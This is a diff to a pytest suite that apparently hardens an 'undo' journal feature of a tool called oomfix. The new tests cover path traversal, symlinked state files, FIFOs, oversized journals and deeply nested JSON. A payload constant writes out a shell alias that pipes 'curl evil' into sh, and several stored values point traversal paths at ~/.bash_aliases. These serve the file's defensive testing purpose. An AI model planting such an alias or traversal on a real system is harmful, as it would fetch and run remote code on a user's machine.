@@ -108,7 +108,7 @@ PAYLOAD = b"alias ls='curl evil | sh'\n"
 
 
 @pytest.mark.parametrize("where", ["absolute", "dotdot", "dotdot-inside", "symlinked-dir", "root-itself", "nul",
-                                   "not-a-string", "backslash-dotdot"])
+                                   "not-a-string", "backslash-dotdot", "state-dir", "symlinked-file"])
 def test_undo_never_writes_outside_the_project(tmp_path: Path, project: Path, where: str) -> None:
     outside = tmp_path / "home"
     outside.mkdir()
@@ -118,7 +118,9 @@ def test_undo_never_writes_outside_the_project(tmp_path: Path, project: Path, wh
     stored = {"absolute": str(target), "dotdot": "../home/.bash_aliases",
               "dotdot-inside": "sub/../../home/.bash_aliases", "symlinked-dir": "link/.bash_aliases",
               "root-itself": ".", "nul": "configs/x\x00y", "not-a-string": 7,
-              "backslash-dotdot": "..\\..\\home\\.bash_aliases"}[where]
+              "backslash-dotdot": "..\\..\\home\\.bash_aliases", "state-dir": ".oomfix/journal.jsonl",
+              "symlinked-file": "aliases"}[where]
+    (project / "aliases").symlink_to(target)
     _journal(project, [{"file": stored, "before_sha256": sha(PAYLOAD), "after_sha256": None,
                         "backup": _backup(project, PAYLOAD)}])
     before = snapshot(project)
@@ -145,6 +147,42 @@ def test_undo_never_copies_an_outside_file_in(tmp_path: Path, project: Path, whe
     r = oomfix(["undo"], project)
     clean_error(r)
     assert cfg.read_bytes() == now
+
+
+def test_undo_a_fifo_backup_or_target_does_not_hang(project: Path) -> None:
+    fifo = project / ".oomfix" / "backups" / "20260101T000000-deadbeef" / "0.orig"
+    fifo.parent.mkdir(parents=True)
+    os.mkfifo(fifo)
+    os.mkfifo(project / "configs" / "fifo.yaml")
+    cfg = project / "configs" / "qwen3_14b_a.yaml"
+    _journal(project, [{"file": "configs/qwen3_14b_a.yaml", "before_sha256": "0" * 64,
+                        "after_sha256": sha(cfg.read_bytes()), "backup": str(fifo.relative_to(project))}])
+    clean_error(oomfix(["undo"], project, timeout=20))
+    _journal(project, [{"file": "configs/fifo.yaml", "before_sha256": "0" * 64, "after_sha256": "1" * 64,
+                        "backup": _backup(project, b"x", "1.orig")}])
+    clean_error(oomfix(["undo"], project, timeout=20))
+
+
+@pytest.mark.parametrize("what", ["journal", "lock", "backups"])
+def test_journal_state_files_that_are_symlinks_are_refused(tmp_path: Path, project: Path, what: str) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    (outside / "victim").write_text("precious\n")
+    d = project / ".oomfix"
+    d.mkdir()
+    link = {"journal": d / "journal.jsonl", "lock": d / "lock", "backups": d / "backups"}[what]
+    link.symlink_to(outside / "victim" if what != "backups" else outside)
+    before = snapshot(project)
+    clean_error(oomfix(["apply", "logs/job_a.log", "--write"], project), ".oomfix")
+    assert snapshot(project) == before
+    assert sorted(p.name for p in outside.iterdir()) == ["victim"] and (outside / "victim").read_text() == "precious\n"
+
+
+def test_journal_huge_is_refused(project: Path) -> None:
+    (project / ".oomfix").mkdir()
+    with open(project / ".oomfix" / "journal.jsonl", "wb") as f:
+        f.truncate(65 << 20)  # sparse: 65 MB of NUL bytes
+    clean_error(oomfix(["undo"], project), "journal")
 
 
 def test_undo_refuses_a_symlinked_state_directory(tmp_path: Path, project: Path) -> None:
@@ -178,9 +216,9 @@ def test_undo_still_restores_a_genuine_apply(project: Path) -> None:
                                   b'{"event": "written", "tx": "t", "file": {}}\n',
                                   b'{"event": "begin", "tx": "t", "files": [{"file": "a", "before_sha256": 1}]}\n',
                                   b"\xff\xfe\x00garbage\n", b'{"event": "begin", "tx": "t", "log_sha256": ' +
-                                  b"9" * 5000 + b"}\n"],
+                                  b"9" * 5000 + b"}\n", b"[" * 100000 + b"]" * 100000 + b"\n"],
                          ids=["null", "list", "string", "number", "begin-no-tx", "files-not-list", "file-not-dict",
-                              "tx-not-string", "written-file-dict", "sha-not-string", "non-utf8", "bigint"])
+                              "tx-not-string", "written-file-dict", "sha-not-string", "non-utf8", "bigint", "deep"])
 @pytest.mark.parametrize("cmd", ["undo", "apply", "check"])
 def test_journal_malformed_lines_are_one_line_errors(project: Path, line: bytes, cmd: str) -> None:
     (project / ".oomfix").mkdir()
@@ -240,7 +278,7 @@ def test_journal_permission_denied_is_one_line(project: Path, monkeypatch: pytes
 
     _journal(project, [])
 
-    def denied(path: object) -> bytes:
+    def denied(path: object, *_: object) -> bytes:
         raise PermissionError(13, "Permission denied", str(path))
 
     monkeypatch.setattr(J, "_read_bytes", denied)
